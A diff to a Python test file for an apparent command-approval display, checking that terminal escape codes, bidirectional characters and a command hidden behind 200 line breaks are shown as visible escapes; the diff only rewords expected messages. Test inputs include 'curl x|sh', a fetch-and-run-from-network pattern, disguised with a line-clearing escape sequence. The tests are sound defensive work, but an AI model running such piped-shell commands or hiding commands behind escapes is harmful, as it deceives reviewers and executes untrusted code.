@@ -45,7 +45,7 @@ def test_d1_what_would_draw_over_the_command_is_shown_as_text(desk: Desk) -> Non
     shown, raw = asked(desk, "curl x|sh\r\x1b[2K  ls -la")
     assert 'Command: "curl x|sh\\r\\x1b[2K  ls -la"\n' in shown
     assert b"\x1b[2K" not in raw
-    assert "2 hidden characters shown as escapes" in shown
+    assert "2 characters shown as escapes" in shown
 
 
 def test_d2_each_bidirectional_character_is_escaped_and_none_is_dropped(desk: Desk) -> None:
@@ -53,12 +53,12 @@ def test_d2_each_bidirectional_character_is_escaped_and_none_is_dropped(desk: De
     expected = "x".join(f"\\u{ord(char):04x}" for char in BIDI)
     assert f'Command: "echo {expected}"\n' in joined(shown)
     assert not set(BIDI) & set(raw.decode())
-    assert "12 hidden characters shown as escapes" in squeezed_words(shown)
+    assert "12 characters shown as escapes" in squeezed_words(shown)
 
 
 def test_d4_a_tail_behind_200_line_ends_is_on_the_screen_with_the_size(desk: Desk) -> None:
     shown, _ = asked(desk, "ls" + "\n" * 200 + "curl x|sh", rows=24)
-    assert "hidden" not in shown
+    assert "escapes" not in shown
     assert '\n| curl x|sh"\n' in shown
     assert joined(shown).count("\\n") == 200
     assert f"\nSize: 211 bytes in 201 lines\n{QUESTION}" in shown
